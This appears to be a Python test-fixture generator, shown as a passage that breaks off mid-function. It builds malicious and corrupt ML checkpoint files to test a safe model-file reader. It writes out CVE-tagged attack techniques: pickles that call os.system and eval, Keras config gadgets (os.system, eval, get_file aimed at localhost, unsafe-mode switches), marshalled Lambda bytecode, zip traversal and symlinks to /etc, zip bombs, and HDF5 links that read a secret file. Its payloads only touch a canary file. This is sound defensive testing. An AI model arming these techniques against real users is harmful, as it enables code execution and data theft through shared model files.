"""Hostile and broken checkpoints.   usage: make_hostile.py FILES OUT     (needs numpy, h5py; run from any directory)

FILES is the folder of good files (files/ beside this script's parent), OUT is filled anew, OUT/manifest.json lists each
file with what a reader may do:  "labelled" (exit 0), "error" (one clear line, exit 2), "either".
In every case: nothing in the file is run, no other file is opened, no traceback, no hang, memory stays small.

The payloads are harmless: the only thing any of them tries is to create the empty file named by the environment variable
CANARY. A reader that makes that file appear has executed something. Files that point outside point at OUT/secret.bin,
whose content (the word SECRET...) must never appear in any output.
"""
import base64
import io
import json
import marshal
import os
import pathlib
import pickle
import shutil
import stat
import struct
import sys
import tarfile
import tempfile
import zipfile

import h5py
import numpy as np

good, out = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2]).resolve()
if out.exists():
    for p in out.rglob("*"):
        if not p.is_symlink() and p.is_file():
            p.chmod(0o600)
    shutil.rmtree(out)
out.mkdir(parents=True)
SECRET = b"SECRET-3f9a1c77-must-not-be-shown " * 512
(out / "secret.bin").write_bytes(SECRET)
with h5py.File(out / "secret.h5", "w") as f:
    f["model_weights/secret_lstm/secret_lstm/kernel:0"] = np.frombuffer(SECRET[:1280], "<f4").reshape(4, 80)
    f["k"] = np.frombuffer(SECRET[:1280], "<f4").reshape(4, 80)
rows = []


def note(name, expect, attack, why, cve=None, allow=None):
    rows.append({"file": name, "expect": expect, "attack": attack, "why": why, **({"cve": cve} if cve else {}), **({"allow": allow} if allow else {})})


K = (good / "keras3/seed_autoencoder.keras").read_bytes()
H = (good / "tf_keras2/seed_autoencoder.hdf5").read_bytes()
W = (good / "keras3/bi_mixed.weights.h5").read_bytes()
P = (good / "torch/lstm_bi_2layers.pt").read_bytes()
S = (good / "torch/lstm_bi_2layers.safetensors").read_bytes()
O = (good / "onnx/lstm_bi_2layers.onnx").read_bytes()
PAYLOAD = "__import__('os').environ.get('CANARY') and open(__import__('os').environ['CANARY'],'w').close()"
CODE = base64.b64encode(marshal.dumps(eval("lambda x: (%s, x)[1]" % PAYLOAD).__code__)).decode()
SHELL = 'test -n "$CANARY" && : > "$CANARY"'


def rezip(name, change=lambda e: None, source=K, level=zipfile.ZIP_STORED, after=None):
    """The good .keras with some entries changed. ``change`` edits {name: bytes} in place."""
    z = zipfile.ZipFile(io.BytesIO(source))
    entries = {i: z.read(i) for i in z.namelist()}
    change(entries)
    with zipfile.ZipFile(out / name, "w", level) as o:
        for k, v in entries.items():
            o.writestr(zipfile.ZipInfo(k) if level == zipfile.ZIP_STORED else k, v)
        if after:
            after(o)


def edit(change):
    """A change of the parsed config.json"""
    def inner(e):
        c = json.loads(e["config.json"]); c = change(c) or c
        e["config.json"] = json.dumps(c).encode()
    return inner


def layer(c, name):
    return next(l for l in c["config"]["layers"] if l["config"]["name"] == name)


# ------------------------------------------------------------------ cut short, or not what the name says
for stem, ext, data in (("keras", "keras", K), ("legacy", "hdf5", H), ("weights", "weights.h5", W), ("torch", "pt", P), ("safetensors", "safetensors", S), ("onnx", "onnx", O)):
    for percent in (3, 50, 97):
        name = "truncated_%s_%d.%s" % (stem, percent, ext)
        (out / name).write_bytes(data[:len(data) * percent // 100])
        note(name, "error" if stem != "onnx" else "either", "truncated", "%d %% of a good file" % percent)
name = "trailing_garbage.keras"; (out / name).write_bytes(K + b"\0" * 3000); note(name, "either", "padded", "zeros after the end of the zip")
name = "leading_garbage.keras"; (out / name).write_bytes(b"#!/bin/sh\nexit 1\n" + K); note(name, "either", "polyglot", "text before the zip: zip readers accept it, and offsets shift by 17")
name = "userblock.hdf5"; (out / name).write_bytes(b"\0" * 512 + H); note(name, "either", "HDF5 user block", "HDF5 allows its signature at 512, 1024, ...: a genuine file may begin so")
for name, data, why in (("picture.keras", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, "a PNG"), ("empty.keras", b"", "no bytes"), ("empty.hdf5", b"", "no bytes"), ("empty.pt", b"", "no bytes"), ("empty.onnx", b"", "no bytes: also a valid empty protobuf"),
                        ("empty.safetensors", b"", "no bytes"), ("text.hdf5", "не модель\n".encode(), "text"), ("html.keras", b"<!DOCTYPE html><title>404</title>", "a download that failed"), ("lfs_pointer.h5", b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n", "a Git LFS pointer instead of the file"),
                        ("zeros.pt", b"\0" * 4096, "zeros"), ("gzip.h5", b"\x1f\x8b\x08\0" + b"\0" * 60, "gzip"), ("json.safetensors", b'{"a": 1}', "JSON without the length")):
    (out / name).write_bytes(data); note(name, "error", "not a model", why)
for name, data, why in (("keras_named.h5", K, "a .keras file with an .h5 name"), ("h5_named.keras", H, "an .hdf5 file with a .keras name"), ("torch_named.safetensors", P, "a .pt with a .safetensors name"), ("no_extension", K, "no extension at all")):
    (out / name).write_bytes(data); note(name, "either", "wrong extension", why + ": decide by content, or say what it is")
(out / "directory.keras").mkdir(); note("directory.keras", "error", "not a file", "a directory")
os.symlink("loop.hdf5", out / "loop.hdf5"); note("loop.hdf5", "error", "symlink loop", "points at itself")
os.symlink("nowhere.keras", out / "dangling.keras"); note("dangling.keras", "error", "dangling symlink", "points at nothing")
os.mkfifo(out / "pipe.hdf5"); note("pipe.hdf5", "error", "named pipe", "open() waits for ever: look with stat first")
os.symlink("/dev/zero", out / "device.keras"); note("device.keras", "error", "device", "an endless file")
(out / "unreadable.keras").write_bytes(K); (out / "unreadable.keras").chmod(0); note("unreadable.keras", "error", "permissions", "mode 000 (root can read it all the same: then labelled)", allow=["labelled"])

# ------------------------------------------------------------------ .keras: code in the config
def add_lambda(c):
    c["config"]["layers"].append({"module": "keras.layers", "class_name": "Lambda", "config": {"name": "run_me", "trainable": True, "dtype": "float32",
                                 "function": {"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}, "arguments": {}}, "registered_name": None, "build_config": {"input_shape": [None, 45, 100]}, "name": "run_me",
                                 "inbound_nodes": c["config"]["layers"][-1]["inbound_nodes"]})
rezip("lambda_marshal.keras", edit(add_lambda)); note("lambda_marshal.keras", "labelled", "code in config", "a Lambda layer with marshalled byte code; the two LSTMs can still be labelled", "CVE-2024-3660")
def gadget(c):
    c.update({"module": "builtins", "class_name": "function", "registered_name": "function"}); c["config"] = {"name": "exec", "args": [PAYLOAD]}
rezip("module_gadget.keras", edit(gadget)); note("module_gadget.keras", "error", "code in config", "config.json names a module and a function to call", "CVE-2025-1550")
def layer_gadget(c):
    l = layer(c, "encoder_lstm"); l["config"]["layer"]["config"]["activation"] = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    l["config"]["layer"]["config"]["kernel_initializer"] = {"module": "builtins", "class_name": "eval", "config": {"source": PAYLOAD}, "registered_name": None}
rezip("activation_gadget.keras", edit(layer_gadget)); note("activation_gadget.keras", "labelled", "code in config", "activation is os.system, the initializer is eval", "CVE-2025-1550")
def unsafe_mode(c):
    c["config"]["layers"].insert(0, {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "function", "name": "off", "inbound_nodes": []}); add_lambda(c)
rezip("unsafe_mode_off.keras", edit(unsafe_mode)); note("unsafe_mode_off.keras", "either", "code in config", "the first layer switches safe mode off, the last is a Lambda", "CVE-2025-9906")
def get_file(c):
    c["config"]["layers"].append({"module": "keras.layers", "class_name": "Lambda", "config": {"name": "fetch", "function": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}, "arguments": {"origin": "http://127.0.0.1:9/x", "cache_dir": "/nonexistent"}}, "name": "fetch", "inbound_nodes": []})
rezip("get_file_gadget.keras", edit(get_file)); note("get_file_gadget.keras", "labelled", "network", "keras.utils.get_file as a Lambda's function", "CVE-2025-8747")
def lookup(c):
    c["config"]["layers"].append({"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "vocab", "vocabulary": str(out / "secret.bin")}, "name": "vocab", "inbound_nodes": []})
rezip("vocabulary_path.keras", edit(lookup)); note("vocabulary_path.keras", "labelled", "reads another file", "StringLookup's vocabulary is a path", "CVE-2025-12058")
def torch_module(c):
    c["config"]["layers"].append({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "tm", "module": base64.b64encode(b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR.").decode()}, "name": "tm", "inbound_nodes": []})
rezip("torch_module_wrapper.keras", edit(torch_module)); note("torch_module_wrapper.keras", "labelled", "pickle in config", "a pickled torch module inside config.json", "CVE-2025-49655")
def tfsm(c):
    c["config"]["layers"].append({"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "sm", "filepath": str(out), "call_endpoint": "serve"}, "name": "sm", "inbound_nodes": []})
rezip("tfsm_layer.keras", edit(tfsm)); note("tfsm_layer.keras", "labelled", "reads another file", "TFSMLayer names a SavedModel folder to load", "CVE-2026-1462")

# ------------------------------------------------------------------ .keras: the zip
rezip("path_traversal.keras", after=lambda o: (o.writestr("../../escaped_by_lstm_shapes", "x"), o.writestr(tempfile.gettempdir() + "/escaped_by_lstm_shapes", "x"))); note("path_traversal.keras", "labelled", "zip path traversal", "entries named ../../ and an absolute path: harmless to a reader that never extracts")
def symlink_entry(o):
    i = zipfile.ZipInfo("assets"); i.create_system = 3; i.external_attr = (stat.S_IFLNK | 0o777) << 16; o.writestr(i, "/etc")
rezip("symlink_entry.keras", after=symlink_entry); note("symlink_entry.keras", "labelled", "zip symlink", "an entry that is a symbolic link to /etc")
rezip("bomb_config.keras", lambda e: e.update({"config.json": b" " * 300_000_000 + e["config.json"]}), level=zipfile.ZIP_DEFLATED); note("bomb_config.keras", "error", "zip bomb", "config.json unpacks to 300 MB from 300 kB")
rezip("bomb_weights.keras", lambda e: e.update({"model.weights.h5": e["model.weights.h5"] + b"\0" * 400_000_000}), level=zipfile.ZIP_DEFLATED); note("bomb_weights.keras", "either", "zip bomb", "the weights, compressed, unpack to 400 MB")
rezip("deflated.keras", level=zipfile.ZIP_DEFLATED); note("deflated.keras", "labelled", "compressed", "as some tools re-pack a .keras; the weights can no longer be opened in place")
rezip("bzip2.keras", level=zipfile.ZIP_BZIP2); note("bzip2.keras", "either", "compressed", "bzip2 entries")
def lies(data, entry, value, field):
    """Change a size field of one entry in the central directory."""
    b = bytearray(data); at = 0
    while True:
        at = b.find(b"PK\x01\x02", at)
        if at < 0: break
        n = struct.unpack_from("<H", b, at + 28)[0]
        if bytes(b[at + 46:at + 46 + n]).decode() == entry: struct.pack_into("<I", b, at + field, value)
        at += 4
    return bytes(b)
(out / "size_lie_small.keras").write_bytes(lies(K, "model.weights.h5", 100, 24)); note("size_lie_small.keras", "error", "zip sizes", "the directory says the weights have 100 bytes", allow=["labelled"])
(out / "size_lie_huge.keras").write_bytes(lies(lies(K, "config.json", 0xFFFFFFF0, 24), "config.json", 0xFFFFFFF0, 20)); note("size_lie_huge.keras", "error", "zip sizes", "the directory says config.json has 4 GB")
(out / "offset_lie.keras").write_bytes(lies(K, "model.weights.h5", 0x7FFFFFFF, 42)); note("offset_lie.keras", "error", "zip offsets", "the weights begin 2 GB past the end")
(out / "encrypted_flag.keras").write_bytes((lambda b: (b.__setitem__(b.rfind(b"PK\x01\x02", 0, b.find(b"PK\x01\x02") + 4) + 8, 1), bytes(b))[1])(bytearray(K))); note("encrypted_flag.keras", "error", "zip flags", "the first entry says it is encrypted", "CVE-2025-1945 (flags read differently by two readers)", allow=["labelled"])
def duplicate(o):
    o.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {"name": "second", "layers": []}}))
rezip("duplicate_config.keras", after=duplicate); note("duplicate_config.keras", "error", "duplicate entries", "two config.json: the last wins in Python, the first elsewhere", allow=["labelled"])
rezip("many_entries.keras", after=lambda o: [o.writestr("a/%d" % j, b"") for j in range(60_000)]); note("many_entries.keras", "either", "many entries", "60 000 empty entries")
rezip("nested_zip.keras", lambda e: e.update({"model.weights.h5": K})); note("nested_zip.keras", "error", "nested", "model.weights.h5 is itself a .keras")
rezip("no_config.keras", lambda e: e.pop("config.json")); note("no_config.keras", "either", "missing part", "no config.json: shapes are there, names and order are not")
rezip("no_weights.keras", lambda e: e.pop("model.weights.h5")); note("no_weights.keras", "either", "missing part", "no weights: the config alone tells layers and units")
rezip("no_metadata.keras", lambda e: e.pop("metadata.json")); note("no_metadata.keras", "labelled", "missing part", "no metadata.json")

# ------------------------------------------------------------------ .keras: the JSON
raw = json.loads(zipfile.ZipFile(io.BytesIO(K)).read("config.json"))
def with_config(name, data, expect, attack, why, allow=None):
    rezip(name, lambda e: e.update({"config.json": data}), level=zipfile.ZIP_DEFLATED if len(data) > 1_000_000 else zipfile.ZIP_STORED); note(name, expect, attack, why, allow=allow)
with_config("json_deep.keras", b'{"config":' * 100_000 + b"1" + b"}" * 100_000, "error", "deep nesting", "100 000 levels: RecursionError")
with_config("json_deep_layers.keras", json.dumps(raw).encode().replace(b'"unroll": false', b'"unroll": ' + b"[" * 900 + b"]" * 900), "either", "deep nesting", "a valid config with 900 levels in an option")
with_config("json_million_layers.keras", json.dumps({"class_name": "Sequential", "config": {"name": "m", "layers": []}}).encode().replace(b"[]", b"[" + b",".join([b'{"class_name":"LSTM","config":{"name":"l","units":4}}'] * 1_000_000) + b"]"), "error", "many layers", "one million layers, 50 MB of JSON from 60 kB", allow=["labelled"])
with_config("json_bad_utf8.keras", b'{"class_name": "\xff\xfe"}', "error", "encoding", "not UTF-8")
with_config("json_nan.keras", json.dumps(raw).encode().replace(b'"units": 20', b'"units": NaN'), "error", "wrong type", "units is NaN", allow=["labelled"])
with_config("json_infinity.keras", json.dumps(raw).encode().replace(b'"units": 20', b'"units": 1e999'), "error", "wrong type", "units is infinite", allow=["labelled"])
with_config("json_huge_int.keras", json.dumps(raw).encode().replace(b'"units": 20', b'"units": ' + b"9" * 5000), "error", "wrong type", "units has 5 000 digits: Python refuses to convert it", allow=["labelled"])
with_config("json_units_text.keras", json.dumps(raw).encode().replace(b'"units": 20', b'"units": "20; import os"'), "error", "wrong type", "units is text", allow=["labelled"])
with_config("json_units_true.keras", json.dumps(raw).encode().replace(b'"units": 20', b'"units": true'), "error", "wrong type", "units is true, which Python takes for 1", allow=["labelled"])
with_config("json_units_negative.keras", json.dumps(raw).encode().replace(b'"units": 20', b'"units": -20'), "error", "contradiction", "units is negative", allow=["labelled"])
with_config("json_layers_object.keras", json.dumps({"class_name": "Functional", "config": {"name": "m", "layers": {"a": 1}}}).encode(), "error", "wrong type", "layers is an object")
with_config("json_layer_null.keras", json.dumps({"class_name": "Functional", "config": {"name": "m", "layers": [None, 3, "x", [], {}]}}).encode(), "error", "wrong type", "layers are null, 3, x, [] and {}")
with_config("json_name_list.keras", json.dumps(raw).encode().replace(b'"name": "encoder_lstm"', b'"name": ["encoder", {"lstm": 1}]'), "error", "wrong type", "a layer's name is a list", allow=["labelled"])
with_config("json_string.keras", b'"config"', "error", "wrong type", "config.json is a string")
with_config("json_duplicate_keys.keras", json.dumps(raw).encode().replace(b'"units": 20', b'"units": 20, "units": 40'), "error", "contradiction", "units twice: 20 and 40", allow=["labelled"])
with_config("json_control_names.keras", json.dumps(raw).encode().replace(b'"name": "encoder_lstm"', b'"name": "\\u001b[2J\\u001b]0;owned\\u0007<script>alert(1)</script>\\n\\u202e"'), "labelled", "terminal and HTML injection", "the layer's name holds escape sequences, a script tag, a newline and a right-to-left mark: show it escaped")
with_config("json_name_huge.keras", json.dumps(raw).encode().replace(b'"name": "encoder_lstm"', b'"name": "' + b"a" * 5_000_000 + b'"'), "either", "huge text", "a name of 5 MB")
with_config("contradict_units.keras", json.dumps(raw).encode().replace(b'"units": 20', b'"units": 25'), "error", "contradiction", "the config says 25 units, the arrays say 20", allow=["labelled"])
with_config("contradict_cell.keras", json.dumps(raw).encode().replace(b'"class_name": "LSTM"', b'"class_name": "GRU"', 1), "error", "contradiction", "the config says GRU, the arrays are an LSTM's", allow=["labelled"])
with_config("contradict_bias.keras", json.dumps(raw).encode().replace(b'"use_bias": true', b'"use_bias": false', 1), "error", "contradiction", "the config says no bias, the file has one", allow=["labelled"])
def cyclic(c):
    names = [l["config"]["name"] for l in c["config"]["layers"]]
    layer(c, names[1])["inbound_nodes"] = layer(c, names[-1])["inbound_nodes"]
rezip("graph_cycle.keras", edit(cyclic)); note("graph_cycle.keras", "either", "graph cycle", "the first layer takes its input from the last but one: a walk along the connections never ends")
def inside_itself(c):
    inner = json.loads(json.dumps(c))
    for _ in range(60):
        inner = {"module": "keras.models", "class_name": "Functional", "config": {"name": "inner", "layers": [inner], "input_layers": [], "output_layers": []}, "name": "inner", "inbound_nodes": []}
    return inner
rezip("nested_60.keras", edit(inside_itself)); note("nested_60.keras", "either", "deep nesting", "the model inside 60 models")

# ------------------------------------------------------------------ HDF5
def h5(name, expect, attack, why, cve=None, allow=None, base=None, **kw):
    """Decorator: build an HDF5 file (from a good one, if base is given)."""
    def run(make):
        if base is not None:
            (out / name).write_bytes(base)
        with h5py.File(out / name, "a" if base is not None else "w", **kw) as f:
            make(f)
        note(name, expect, attack, why, cve, allow)
    return run
SEED_KERNEL = "model_weights/encoder_lstm/encoder_lstm/forward_lstm/lstm_cell/kernel:0"
with h5py.File(io.BytesIO(H)) as f:
    assert SEED_KERNEL in f, list(f["model_weights/encoder_lstm"])

@h5("legacy_lambda.hdf5", "labelled", "code in config", "model_config holds a Lambda with marshalled byte code: safe_mode does not apply to this format", "CVE-2025-9905", base=H)
def _(f):
    c = json.loads(f.attrs["model_config"]); c["config"]["layers"].append({"class_name": "Lambda", "config": {"name": "run_me", "function": [CODE, None, None], "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw", "arguments": {}}, "name": "run_me", "inbound_nodes": []})
    del f.attrs["model_config"]; f.attrs["model_config"] = json.dumps(c)
@h5("external_link.hdf5", "error", "HDF5 external link", "a layer's group is a link into secret.h5", "CVE-2026-1669", base=H, allow=["labelled"])
def _(f):
    del f["model_weights/encoder_lstm"]; f["model_weights/encoder_lstm"] = h5py.ExternalLink(str(out / "secret.h5"), "/model_weights/secret_lstm")
@h5("external_link_dataset.weights.h5", "error", "HDF5 external link", "one array is a link into secret.h5", "CVE-2026-1669", base=W, allow=["labelled"])
def _(f):
    p = "layers/bidirectional/forward_layer/cell/vars/0"; del f[p]; f[p] = h5py.ExternalLink(str(out / "secret.h5"), "/k")
@h5("external_link_pipe.hdf5", "error", "HDF5 external link", "the link leads to a named pipe: following it waits for ever", base=H, allow=["labelled"])
def _(f):
    del f["model_weights/encoder_lstm"]; f["model_weights/encoder_lstm"] = h5py.ExternalLink(str(out / "pipe.hdf5"), "/x")
@h5("external_storage.hdf5", "either", "HDF5 external storage", "a kernel's bytes lie in secret.bin: the shape may be shown, the content never", "CVE-2026-1669", base=H)
def _(f):
    del f[SEED_KERNEL]; f.create_dataset(SEED_KERNEL, (100, 80), "f4", external=[(str(out / "secret.bin"), 0, 32000)])
@h5("virtual_dataset.hdf5", "either", "HDF5 virtual dataset", "a kernel is a view of a dataset in secret.h5", "CVE-2026-1669", base=H)
def _(f):
    del f[SEED_KERNEL]; v = h5py.VirtualLayout((100, 80), "f4"); v[:4] = h5py.VirtualSource(str(out / "secret.h5"), "k", (4, 80)); f.create_virtual_dataset(SEED_KERNEL, v)
@h5("soft_link_cycle.hdf5", "error", "HDF5 link cycle", "a layer's group is a soft link to its own parent", base=H, allow=["labelled"])
def _(f):
    del f["model_weights/encoder_lstm"]; f["model_weights/encoder_lstm"] = h5py.SoftLink("/model_weights"); f["model_weights/again"] = h5py.SoftLink("/model_weights/again")
@h5("hard_link_cycle.weights.h5", "either", "HDF5 link cycle", "a group contains itself: a walk never ends", base=W)
def _(f):
    f["layers/bidirectional/forward_layer/cell/up"] = f["layers"]; f["layers/me"] = f["layers"]
@h5("dangling_soft_link.hdf5", "error", "HDF5 dangling link", "a kernel is a link to nothing", base=H, allow=["labelled"])
def _(f):
    del f[SEED_KERNEL]; f[SEED_KERNEL] = h5py.SoftLink("/nothing/here")
@h5("huge_shape.weights.h5", "either", "huge shape", "arrays of terabytes without data: the shape may be shown, allocating it kills", "CVE-2026-0897")
def _(f):
    f.create_dataset("layers/lstm/cell/vars/0", (2**31, 4 * 2**20), "f4", chunks=(1024, 1024)); f.create_dataset("layers/lstm/cell/vars/1", (2**20, 4 * 2**20), "f4", chunks=(1024, 1024)); f.create_dataset("layers/lstm/cell/vars/2", (4 * 2**20,), "f4", chunks=(1024,))
@h5("huge_shape.hdf5", "error", "huge shape", "the seed's kernel says (2^40, 80)", "CVE-2026-0897", base=H, allow=["labelled"])
def _(f):
    del f[SEED_KERNEL]; f.create_dataset(SEED_KERNEL, (2**40, 80), "f4", chunks=(1024, 80))
@h5("overflow_shape.weights.h5", "either", "huge shape", "the number of elements passes 2^63", None)
def _(f):
    f.create_dataset("layers/lstm/cell/vars/0", (2**62, 16), "f4", chunks=(16, 16)); f.create_dataset("layers/lstm/cell/vars/1", (4, 16), "f4"); f.create_dataset("layers/lstm/cell/vars/2", (16,), "f4")
@h5("zero_shape.weights.h5", "either", "empty arrays", "arrays with a zero axis")
def _(f):
    f.create_dataset("layers/lstm/cell/vars/0", (0, 16), "f4"); f.create_dataset("layers/lstm/cell/vars/1", (4, 16), "f4"); f.create_dataset("layers/lstm/cell/vars/2", (16,), "f4")
@h5("null_and_scalar.weights.h5", "either", "odd spaces", "an array with a null dataspace, and scalars")
def _(f):
    f["layers/lstm/cell/vars/0"] = h5py.Empty("f4"); f["layers/lstm/cell/vars/1"] = np.float32(1); f["layers/lstm/cell/vars/2"] = np.float32(2)
@h5("odd_types.weights.h5", "either", "odd types", "strings, records, references, complex numbers and big-endian floats instead of weights")
def _(f):
    g = f.create_group("layers/lstm/cell/vars"); g["0"] = np.array([b"abc", b"de"]); g["1"] = np.zeros(3, [("a", "f4"), ("b", "i8", (2,))]); g["2"] = np.zeros((3, 4), "c16"); g["3"] = np.zeros((3, 4), ">f8")
    d = g.create_dataset("4", (2,), h5py.ref_dtype); d[0] = f.ref; g.create_dataset("5", (2,), h5py.string_dtype()); g["6"] = np.dtype("f4")
@h5("vars_text_keys.weights.h5", "either", "odd keys", "vars named 0, 00, ٣, -1, 1e3, 10**9 and kernel")
def _(f):
    for j, n in enumerate(["0", "00", "٣", "-1", "1e3", str(10**9), "kernel"]): f.create_dataset("layers/lstm/cell/vars/" + n, (4, 16) if j else (5, 16), "f4")
@h5("wide.weights.h5", "either", "many groups", "40 000 groups", libver="latest")
def _(f):
    g = f.create_group("layers")
    for j in range(40_000): g.create_group("gru_%d" % j)
@h5("deep.weights.h5", "either", "deep nesting", "2 500 groups inside one another")
def _(f):
    g = f
    for j in range(2500): g = g.create_group("layers")
@h5("names_missing.hdf5", "error", "attributes", "layer_names lists layers that are not there", base=H)
def _(f):
    f["model_weights"].attrs["layer_names"] = np.array([b"ghost", b"../../etc", b""])
@h5("names_bad_utf8.hdf5", "either", "attributes", "a weight name that is not UTF-8", base=H)
def _(f):
    g = f["model_weights/encoder_lstm"]; n = [x if isinstance(x, bytes) else x.encode() for x in g.attrs["weight_names"]]; n[0] = b"\xff\xfe\x00kernel"; del g.attrs["weight_names"]; g.attrs["weight_names"] = np.array(n, "S80")
@h5("names_escape.hdf5", "error", "attributes", "weight_names point upwards: ../decoder_lstm/...", base=H, allow=["labelled"])
def _(f):
    g = f["model_weights/encoder_lstm"]; n = [x.decode() if isinstance(x, bytes) else x for x in g.attrs["weight_names"]]; del g.attrs["weight_names"]; g.attrs["weight_names"] = np.array([("/model_weights/decoder_lstm/" + x.replace("encoder", "decoder")).encode() for x in n])
@h5("names_twice.hdf5", "either", "attributes", "a layer is listed twice", base=H)
def _(f):
    n = [x if isinstance(x, bytes) else x.encode() for x in f["model_weights"].attrs["layer_names"]]; del f["model_weights"].attrs["layer_names"]; f["model_weights"].attrs["layer_names"] = np.array(n + n)
@h5("names_number.hdf5", "error", "attributes", "layer_names is the number 7", base=H)
def _(f):
    del f["model_weights"].attrs["layer_names"]; f["model_weights"].attrs["layer_names"] = 7
@h5("model_config_number.hdf5", "either", "attributes", "model_config is a number: the arrays can still be labelled by their names", base=H)
def _(f):
    del f.attrs["model_config"]; f.attrs["model_config"] = 3.5
@h5("model_config_deep.hdf5", "either", "deep nesting", "model_config is 30 000 levels deep", base=H, libver="latest")
def _(f):
    del f.attrs["model_config"]; f.attrs["model_config"] = "[" * 30_000 + "]" * 30_000
@h5("contradict_units.hdf5", "error", "contradiction", "model_config says 30 units, the arrays say 20", base=H, allow=["labelled"])
def _(f):
    c = f.attrs["model_config"]; c = c.decode() if isinstance(c, bytes) else c; del f.attrs["model_config"]; f.attrs["model_config"] = c.replace('"units": 20', '"units": 30')
@h5("swapped_shapes.hdf5", "error", "contradiction", "kernel and recurrent kernel of the encoder have changed places", base=H, allow=["labelled"])
def _(f):
    r = SEED_KERNEL.replace("kernel:0", "recurrent_kernel:0"); a, b = f[SEED_KERNEL][()], f[r][()]; del f[SEED_KERNEL], f[r]; f[SEED_KERNEL], f[r] = b, a
@h5("array_is_group.hdf5", "error", "wrong kind", "the kernel is a group, a layer is a dataset", base=H, allow=["labelled"])
def _(f):
    del f[SEED_KERNEL]; f.create_group(SEED_KERNEL); del f["model_weights/decoder_lstm"]; f["model_weights/decoder_lstm"] = np.zeros(3)
b = bytearray(H); b[8:9] = b"\xff"; (out / "superblock_version.hdf5").write_bytes(b); note("superblock_version.hdf5", "error", "corrupt", "superblock version 255")
r = np.random.RandomState(11)
for j in range(24):
    for stem, ext, data, upto in (("h5", "hdf5", H, 30000), ("keras", "keras", K, len(K)), ("pt", "pt", P, len(P)), ("onnx", "onnx", O, 4000), ("st", "safetensors", S, 2000)):
        b = bytearray(data)
        for _ in range(int(r.choice([1, 4, 40]))): b[r.randint(min(upto, len(b)))] = r.randint(256)
        name = "flip_%s_%02d.%s" % (stem, j, ext); (out / name).write_bytes(b); note(name, "either", "flipped bytes", "some bytes of a good file changed at random; the C library itself must not crash the program")

# ------------------------------------------------------------------ pickles and PyTorch
class Run:
    def __reduce__(self): return (os.system, (SHELL,))
class Eval:
    def __reduce__(self): return (eval, (PAYLOAD,))
def torch_zip(name, data, extra=(), top="archive"):
    with zipfile.ZipFile(out / name, "w") as z:
        z.writestr(top + "/data.pkl", data); z.writestr(top + "/byteorder", "little"); z.writestr(top + "/version", "3\n")
        for k, v in extra: z.writestr(top + "/" + k, v)
for proto in (0, 2, 4):
    (out / ("pickle_system_p%d.pt" % proto)).write_bytes(pickle.dumps({"lstm.weight_ih_l0": Run()}, proto)); note("pickle_system_p%d.pt" % proto, "error", "pickle", "a bare pickle, protocol %d, that runs a command" % proto)
torch_zip("zip_system.pt", pickle.dumps({"lstm.weight_ih_l0": Run()}, 2)); note("zip_system.pt", "error", "pickle", "data.pkl runs a command")
torch_zip("zip_eval_late.pt", pickle.dumps({"a": 1, "zz": Eval()}, 2)); note("zip_eval_late.pt", "error", "pickle", "data.pkl evaluates text at the end", allow=["labelled"])
z = zipfile.ZipFile(io.BytesIO(P)); top = z.namelist()[0].split("/")[0]; pkl = z.read(top + "/data.pkl"); rest = [(n[len(top) + 1:], z.read(n)) for n in z.namelist() if not n.endswith("data.pkl")]
bad = pickle.dumps(Run(), 2)[2:-1] + b"0"                                    # run it, drop the result, then go on as the good file does
torch_zip("zip_good_after_bad.pt", pkl[:2] + bad + pkl[2:], [x for x in rest if x[0] not in ("byteorder", "version")]); note("zip_good_after_bad.pt", "error", "pickle", "runs a command first and is a good state_dict after that: refuse any global outside the tensors' own", "CVE-2025-32434 (weights_only alone was not enough before 2.6)", allow=["labelled"])
torch_zip("zip_stack_global.pt", b"\x80\x04\x8c\x02os\x8c\x06system\x93" + b"\x8c" + bytes([len(SHELL)]) + SHELL.encode() + b"\x85R."); note("zip_stack_global.pt", "error", "pickle", "STACK_GLOBAL instead of GLOBAL")
torch_zip("zip_inst.pt", b"(S'" + SHELL.encode() + b"'\nios\nsystem\n."); note("zip_inst.pt", "error", "pickle", "the INST opcode of protocol 0")
torch_zip("zip_ext.pt", b"\x80\x02\x82\x01."); note("zip_ext.pt", "error", "pickle", "an extension code")
torch_zip("zip_stack_underflow.pt", b"\x80\x02eRbt."); note("zip_stack_underflow.pt", "error", "pickle", "opcodes on an empty stack")
torch_zip("zip_memo_missing.pt", b"\x80\x02h\xff."); note("zip_memo_missing.pt", "error", "pickle", "a memo entry that was never stored")
torch_zip("zip_no_stop.pt", b"\x80\x02}"); note("zip_no_stop.pt", "error", "pickle", "no STOP opcode")
def laughs(n):
    """Nested lists, each twice its predecessor: small here, 2**n when shown or copied."""
    s = b"\x80\x02]q\x00K\x01a"
    for j in range(n): s += b"0](h" + bytes([j]) + b"h" + bytes([j]) + b"eq" + bytes([j + 1])
    return s + b"."
torch_zip("zip_billion_laughs.pt", laughs(60)); note("zip_billion_laughs.pt", "error", "pickle", "60 nested lists that refer to each other twice: 2^60 elements if walked")
torch_zip("zip_long_int.pt", b"\x80\x02\x8b" + struct.pack("<i", 20_000_000) + b"\x7f" * 20_000_000 + b".", ()); note("zip_long_int.pt", "error", "pickle", "an integer of 20 MB")
torch_zip("zip_frame_lie.pt", b"\x80\x04\x95" + struct.pack("<Q", 2**60) + b"N."); note("zip_frame_lie.pt", "error", "pickle", "a frame of 2^60 bytes")
torch_zip("zip_string_lie.pt", b"\x80\x04\x8d" + struct.pack("<Q", 2**61) + b"abc."); note("zip_string_lie.pt", "error", "pickle", "a string of 2^61 bytes")
def rebuild(shape, stride=None, offset=0, storage=b"FloatStorage", numel=4):
    """A minimal state_dict pickle with one tensor, written opcode by opcode."""
    def i(n): return b"\x8a" + bytes([9]) + int(n).to_bytes(9, "little", signed=True)
    def tup(xs): return b"(" + b"".join(i(x) for x in xs) + b"t"
